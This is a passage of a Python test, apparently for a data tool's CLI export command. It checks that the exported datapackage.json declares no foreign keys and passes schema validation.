    cli.ok("export", "--out", str(tmp_path / "out"), *extra)
    package = json.loads((tmp_path / "out" / "datapackage.json").read_text())
    assert "no foreign keys are declared" in package["description"]
    assert not any("foreignKeys" in resource["schema"] for resource in package["resources"])
    report = validate(tmp_path / "out" / "datapackage.json")
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
